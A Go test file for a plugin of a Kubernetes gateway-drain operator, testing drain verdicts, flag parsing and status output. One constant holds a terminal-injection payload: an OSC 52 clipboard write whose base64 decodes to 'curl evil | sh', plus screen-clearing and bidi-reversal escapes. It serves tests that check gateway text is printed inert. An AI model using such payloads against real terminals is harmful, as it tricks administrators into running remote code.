package main

import (
	"bytes"
	"context"
	"errors"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/cli-runtime/pkg/genericiooptions"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/client/fake"
	"sigs.k8s.io/controller-runtime/pkg/client/interceptor"

	drainv1 "github.com/hermes-agent/hermes-drain-operator/api/v1alpha1"
	"github.com/hermes-agent/hermes-drain-operator/internal/calls"
)

func cond(typ string, status metav1.ConditionStatus, reason string) metav1.Condition {
	return metav1.Condition{Type: typ, Status: status, Reason: reason, Message: typ + " " + reason}
}

func TestVerdict(t *testing.T) {
	const T, F = metav1.ConditionTrue, metav1.ConditionFalse
	for _, tc := range []struct {
		name       string
		goal       goal
		action     drainv1.DrainAction
		observed   int64
		conditions []metav1.Condition
		done       bool
		exit       int
	}{
		{"drained", completed, drainv1.ActionDrain, 1, []metav1.Condition{cond("Drained", T, "Drained")}, true, 0},
		{"progressing", completed, drainv1.ActionDrain, 1, []metav1.Condition{cond("Drained", F, "Progressing"), cond("Stalled", F, "Progressing")}, false, 0},
		{"a status of an older generation says nothing", completed, drainv1.ActionDrain, 0, []metav1.Condition{cond("Drained", T, "Drained")}, false, 0},
		{"no targets", completed, drainv1.ActionDrain, 1, []metav1.Condition{cond("Drained", F, "NoTargets"), cond("Stalled", T, "NoTargets")}, false, exitStalled},
		{"deadline", completed, drainv1.ActionDrain, 1, []metav1.Condition{cond("Drained", F, "DeadlineExceeded"), cond("Stalled", T, "DeadlineExceeded")}, false, exitStalled},
		{"cancelled while waited on", completed, drainv1.ActionCancel, 1, []metav1.Condition{cond("Drained", F, "Cancelled"), cond("Ready", F, "Releasing")}, false, exitStalled},
		{"released", released, drainv1.ActionCancel, 1, []metav1.Condition{cond("Ready", T, "Released")}, true, 0},
		{"releasing", released, drainv1.ActionCancel, 1, []metav1.Condition{cond("Ready", F, "Releasing")}, false, 0},
		{"withdrawn by the deadline, still releasing", released, drainv1.ActionCancel, 1, []metav1.Condition{cond("Stalled", T, "DeadlineExceeded"), cond("Reconciling", T, "Progressing")}, false, 0},
		{"withdrawn by the deadline, released", released, drainv1.ActionCancel, 1, []metav1.Condition{cond("Stalled", T, "DeadlineExceeded"), cond("Reconciling", F, "Succeeded")}, true, 0},
		{"nothing was ever drained", released, drainv1.ActionCancel, 1, []metav1.Condition{cond("Stalled", T, "NoTargets")}, true, 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			gwd := &drainv1.GatewayDrain{Spec: drainv1.GatewayDrainSpec{Action: tc.action}}
			gwd.Generation, gwd.Status.ObservedGeneration, gwd.Status.Conditions = 1, tc.observed, tc.conditions
			done, err := verdict(gwd, tc.goal)
			var exit *exitCode
			switch {
			case done != tc.done:
				t.Errorf("done %v, want %v", done, tc.done)
			case tc.exit == 0 && err != nil:
				t.Errorf("unexpected error %v", err)
			case tc.exit != 0 && (!errors.As(err, &exit) || exit.code != tc.exit):
				t.Errorf("error %v, want exit %d", err, tc.exit)
			case tc.exit == exitStalled && strings.Contains(tc.name, "deadline") && !strings.Contains(err.Error(), "Stalled DeadlineExceeded"):
				t.Errorf("the error does not carry the condition's message: %v", err)
			}
		})
	}
}

func TestNewGatewayDrain(t *testing.T) {
	gwd, err := newGatewayDrain(drainFlags{selector: "app=hermes-gateway,tier in (a,b)", timeout: 90 * time.Minute, container: "gateway", completeWorkCounting: true})
	if err != nil {
		t.Fatal(err)
	}
	if gwd.Name != "" || gwd.GenerateName != "drain-" || gwd.Spec.Timeout.Duration != 90*time.Minute || gwd.Spec.Container != "gateway" || !gwd.Spec.RequireCompleteWorkCounting ||
		gwd.Spec.Selector.MatchLabels["app"] != "hermes-gateway" || len(gwd.Spec.Selector.MatchExpressions) != 1 {
		t.Errorf("got %+v", gwd)
	}
	if gwd, _ := newGatewayDrain(drainFlags{selector: "app=x", name: "before-upgrade"}); gwd.Name != "before-upgrade" || gwd.GenerateName != "" || gwd.Spec.Timeout != nil {
		t.Errorf("named: %+v", gwd)
	}
	for _, bad := range []string{"", "app in (", "!!"} {
		if _, err := newGatewayDrain(drainFlags{selector: bad}); err == nil {
			t.Errorf("-l %q accepted", bad)
		}
	}
}

// fakeDrain is a drain of two targets, gw-0 Drained and gw-1 Draining,
// with the status the operator would write.
func fakeDrain(t *testing.T, drainedCondition metav1.ConditionStatus) client.Client {
	t.Helper()
	scheme := runtime.NewScheme()
	if err := drainv1.AddToScheme(scheme); err != nil {
		t.Fatal(err)
	}
	gwd := &drainv1.GatewayDrain{
		ObjectMeta: metav1.ObjectMeta{Namespace: "hermes", Name: "up", UID: "uid-up", Generation: 1},
		Spec:       drainv1.GatewayDrainSpec{Action: drainv1.ActionDrain},
		Status: drainv1.GatewayDrainStatus{
			ObservedGeneration: 1, Progress: "1/2", Counts: drainv1.TargetCounts{Targets: 2, Drained: 1, Draining: 1},
			Conditions: []metav1.Condition{{Type: drainv1.ConditionDrained, Status: drainedCondition, Reason: "Progressing",
				Message: "waiting for 1 of 2 targets: gw-1 (Draining: 2 turns in flight)"}},
		},
	}
	two := int32(2)
	slice := &drainv1.TargetSlice{
		ObjectMeta: metav1.ObjectMeta{Namespace: "hermes", Name: "up-0", Labels: map[string]string{drainv1.GatewayDrainLabel: "up"},
			OwnerReferences: []metav1.OwnerReference{{APIVersion: "drain.hermes.dev/v1alpha1", Kind: "GatewayDrain", Name: "up", UID: "uid-up", Controller: ptr.To(true)}}},
		Targets: []drainv1.Target{
			{PodName: "gw-0", State: drainv1.TargetDrained},
			{PodName: "gw-1", State: drainv1.TargetDraining, GatewayState: "draining", ActiveAgents: &two, Message: "2 turns in flight"},
		},
	}
	return fake.NewClientBuilder().WithScheme(scheme).WithObjects(gwd, slice).WithStatusSubresource(gwd).Build()
}

func TestFollowRedrawsTheTableOnATerminalAndAppendsLinesElsewhere(t *testing.T) {
	key := client.ObjectKey{Namespace: "hermes", Name: "up"}
	for _, live := range []bool{true, false} {
		var out bytes.Buffer
		o := &options{IOStreams: genericiooptions.IOStreams{Out: &out}, poll: time.Millisecond, live: live}
		if _, err := o.follow(context.Background(), fakeDrain(t, metav1.ConditionTrue), key, completed, 0); err != nil {
			t.Fatal(err)
		}
		redrawn := strings.HasPrefix(out.String(), "\033[H\033[2J") && strings.Contains(out.String(), "gw-1   Draining")
		lines := strings.Count(out.String(), "\n")
		if live && !redrawn || !live && (redrawn || lines != 1 || !strings.Contains(out.String(), "hermes/up 1/2 drained, Drained=True")) {
			t.Errorf("live %v:\n%q", live, out.String())
		}
	}
}

func TestFollowGivesUpNamingWhatBlocks(t *testing.T) {
	var out bytes.Buffer
	o := &options{IOStreams: genericiooptions.IOStreams{Out: &out}, poll: time.Millisecond}
	_, err := o.follow(context.Background(), fakeDrain(t, metav1.ConditionFalse), client.ObjectKey{Namespace: "hermes", Name: "up"}, completed, 20*time.Millisecond)
	var exit *exitCode
	if !errors.As(err, &exit) || exit.code != exitTimedOut || !strings.Contains(err.Error(), "gw-1 (Draining: 2 turns in flight)") {
		t.Errorf("got %v", err)
	}
	if n := strings.Count(out.String(), "\n"); n != 1 {
		t.Errorf("want one line for a status that never changed, got %d:\n%s", n, out.String())
	}
	_, err = o.follow(context.Background(), fakeDrain(t, metav1.ConditionFalse), client.ObjectKey{Namespace: "hermes", Name: "gone"}, completed, 0)
	if !errors.As(err, &exit) || exit.code != exitStalled {
		t.Errorf("a drain that is not there: %v", err)
	}
}

// A drain withdrawn by its deadline releases every target: its status no
// longer names the pods that kept it from Drained, so the error names the
// ones it last waited for.
func TestFollowNamesWhatBlockedADrainItsDeadlineWithdrew(t *testing.T) {
	reads := 0
	base := fakeDrain(t, metav1.ConditionFalse)
	c := interceptor.NewClient(base.(client.WithWatch), interceptor.Funcs{
		Get: func(ctx context.Context, c client.WithWatch, key client.ObjectKey, obj client.Object, opts ...client.GetOption) error {
			err := c.Get(ctx, key, obj, opts...)
			if gwd, ok := obj.(*drainv1.GatewayDrain); ok && err == nil {
				if reads++; reads > 1 {
					gwd.Status.Conditions = []metav1.Condition{
						{Type: drainv1.ConditionDrained, Status: metav1.ConditionFalse, Reason: drainv1.ReasonDeadlineExceeded, Message: "drain deadline exceeded: all 2 targets released"},
						{Type: drainv1.ConditionStalled, Status: metav1.ConditionTrue, Reason: drainv1.ReasonDeadlineExceeded, Message: "the deadline (1m0s after the drain started) passed; drain deadline exceeded: all 2 targets released"},
					}
				}
			}
			return err
		},
	})
	var out bytes.Buffer
	o := &options{IOStreams: genericiooptions.IOStreams{Out: &out}, poll: time.Millisecond}
	_, err := o.follow(context.Background(), c, client.ObjectKey{Namespace: "hermes", Name: "up"}, completed, 0)
	var exit *exitCode
	if !errors.As(err, &exit) || exit.code != exitStalled || !strings.Contains(err.Error(), "stalled (DeadlineExceeded)") ||
		!strings.Contains(err.Error(), "before that it was waiting for 1 of 2 targets: gw-1 (Draining: 2 turns in flight)") {
		t.Errorf("got %v", err)
	}
}

// hostile is text a hostile gateway can get into what the plugin prints: it
// sets the admin's clipboard (OSC 52), clears the screen, breaks the line,
// and reverses what follows it.
const hostile = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J\x1b[H\r\nnext\tline\u202edesrever\u009b31m\x9b\x7f"

// inert reports where out holds a character a terminal acts on, besides
// its own line ends, or -1.
func inert(out string) int {
	if !utf8.ValidString(out) {
		return 0
	}
	return strings.IndexFunc(out, func(r rune) bool {
		return r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r))
	})
}

// preview prints what it read from gateways, and the pods' conditions,
// inert (issue 23, item 10): one line per pod, nothing a terminal acts on.
func TestPreviewPrintsGatewayTextInert(t *testing.T) {
	data := &previewData{Namespace: "hermes", Selector: "app=hermes-gateway", Targets: 3, Read: true, Pods: []previewPod{
		{Name: "gw-0", Target: true, Ready: corev1.ConditionStatus(hostile), Gate: corev1.ConditionStatus(hostile), Home: &calls.HomeStatus{
			Home: "/opt/data", Epoch: hostile, Marker: calls.MarkerStatus{State: calls.FilePresent, Whose: hostile, Honoured: true},
			Gateway: calls.GatewayStatus{State: hostile, ActiveAgents: 1}}},
		{Name: "gw-1", Target: true, HeldBy: hostile, Home: &calls.HomeStatus{Marker: calls.MarkerStatus{State: calls.FileAbsent},
			Gateway: calls.GatewayStatus{Problem: hostile}}},
		{Name: "gw-2", Target: true, Skipped: hostile, ReadError: hostile},
	}}
	var out bytes.Buffer
	if err := printPreview(&options{IOStreams: genericiooptions.IOStreams{Out: &out}}, data); err != nil {
		t.Fatal(err)
	}
	if i := inert(out.String()); i >= 0 {
		t.Errorf("invalid UTF-8, or a control character at %d of\n%q", i, out.String())
	}
	if lines := strings.Count(out.String(), "\n"); lines != 6 {
		t.Errorf("%d lines, want 6 (a sentence, a blank line, a header, a row per pod):\n%s", lines, out.String())
	}
}

// A wait prints the drain's conditions on each change, and the reason it
// stalled when it stops: inert, however a gateway's text got into them.
func TestFollowPrintsConditionsInert(t *testing.T) {
	base := fakeDrain(t, metav1.ConditionFalse)
	c := interceptor.NewClient(base.(client.WithWatch), interceptor.Funcs{
		Get: func(ctx context.Context, c client.WithWatch, key client.ObjectKey, obj client.Object, opts ...client.GetOption) error {
			err := c.Get(ctx, key, obj, opts...)
			if gwd, ok := obj.(*drainv1.GatewayDrain); ok && err == nil {
				gwd.Status.Conditions = []metav1.Condition{
					{Type: drainv1.ConditionDrained, Status: metav1.ConditionFalse, Reason: drainv1.ReasonNoTargets, Message: "gw-1: " + hostile},
					{Type: drainv1.ConditionStalled, Status: metav1.ConditionTrue, Reason: drainv1.ReasonNoTargets, Message: "gw-1: " + hostile},
				}
			}
			return err
		},
	})
	var out bytes.Buffer
	o := &options{IOStreams: genericiooptions.IOStreams{Out: &out}, poll: time.Millisecond}
	_, err := o.follow(context.Background(), c, client.ObjectKey{Namespace: "hermes", Name: "up"}, completed, 0)
	var exit *exitCode
	if !errors.As(err, &exit) || exit.code != exitStalled {
		t.Fatalf("got %v, want it stalled", err)
	}
	if i := inert(out.String()); i >= 0 || strings.Count(out.String(), "\n") != 1 {
		t.Errorf("want one inert line: invalid UTF-8, or a control character at %d of\n%q", i, out.String())
	}
	if i := inert(err.Error()); i >= 0 {
		t.Errorf("invalid UTF-8, or a control character at %d of the error\n%q", i, err.Error())
	}
}

// A drain-and-replace is done when Replaced, never on Drained, and a halted
// wave is a stall that names the pod.
func TestVerdictOfADrainAndReplace(t *testing.T) {
	const T, F = metav1.ConditionTrue, metav1.ConditionFalse
	gwd := &drainv1.GatewayDrain{Spec: drainv1.GatewayDrainSpec{Action: drainv1.ActionDrain, Replace: &drainv1.ReplaceSpec{}}}
	gwd.Generation, gwd.Status.ObservedGeneration = 1, 1
	gwd.Status.Conditions = []metav1.Condition{cond("Drained", F, "Replacing"), cond("Replaced", F, "Progressing")}
	if done, err := verdict(gwd, completed); done || err != nil {
		t.Errorf("replacing: done %v, %v", done, err)
	}
	gwd.Status.Conditions = []metav1.Condition{cond("Drained", T, "Drained"), cond("Replaced", F, "Progressing")}
	if done, _ := verdict(gwd, completed); done {
		t.Error("done on Drained")
	}
	gwd.Status.Conditions = []metav1.Condition{cond("Drained", F, "Replaced"), cond("Replaced", T, "Replaced")}
	if done, err := verdict(gwd, completed); !done || err != nil {
		t.Errorf("replaced: done %v, %v", done, err)
	}
	halted := cond("Stalled", T, "ReplacementNotServing")
	halted.Message = "gw-3 was not replaced by a pod that serves within 5m0s of its eviction (replacement gw-3: gateway container CrashLoopBackOff)"
	gwd.Status.Conditions = []metav1.Condition{cond("Replaced", F, "ReplacementNotServing"), halted}
	var exit *exitCode
	if done, err := verdict(gwd, completed); done || !errors.As(err, &exit) || exit.code != exitStalled || !strings.Contains(err.Error(), "gw-3: gateway container CrashLoopBackOff") {
		t.Errorf("halted: done %v, %v", done, err)
	}
}

func TestRestartFlags(t *testing.T) {
	for _, tc := range []struct {
		maxUnavailable string
		want           string // "" when refused
	}{
		{"1", "1"}, {"10%", "10%"}, {"100%", "100%"}, {"250", "250"},
		{"0", ""}, {"-1", ""}, {"0%", ""}, {"101%", ""}, {"ten", ""}, {"", ""}, {"5.5%", ""},
	} {
		r, err := replaceSpec(tc.maxUnavailable, 0)
		switch {
		case tc.want == "" && err == nil:
			t.Errorf("--max-unavailable %q accepted", tc.maxUnavailable)
		case tc.want != "" && (err != nil || r.MaxUnavailable.String() != tc.want || r.ServingTimeout != nil):
			t.Errorf("--max-unavailable %q: %v, %v", tc.maxUnavailable, r, err)
		}
	}
	if r, _ := replaceSpec("1", 3*time.Minute); r.ServingTimeout.Duration != 3*time.Minute {
		t.Errorf("--serving-timeout: %v", r.ServingTimeout)
	}
}

// A drain-and-replace's progress line says how many are replaced, and its
// Replaced condition, not Drained.
func TestProgressLineOfADrainAndReplace(t *testing.T) {
	gwd := &drainv1.GatewayDrain{Spec: drainv1.GatewayDrainSpec{Replace: &drainv1.ReplaceSpec{}}}
	gwd.Namespace, gwd.Name, gwd.Generation = "hermes", "upgrade-v2", 1
	gwd.Status.ObservedGeneration, gwd.Status.Progress = 1, "2/4"
	replaced := cond("Replaced", metav1.ConditionFalse, "Progressing")
	replaced.Message = "replaced 2 of 4"
	gwd.Status.Conditions = []metav1.Condition{cond("Drained", metav1.ConditionFalse, "Replacing"), replaced}
	if got, want := progressLine(gwd), "hermes/upgrade-v2 2/4 replaced, Replaced=False Progressing: replaced 2 of 4"; got != want {
		t.Errorf("%q, want %q", got, want)
	}
}
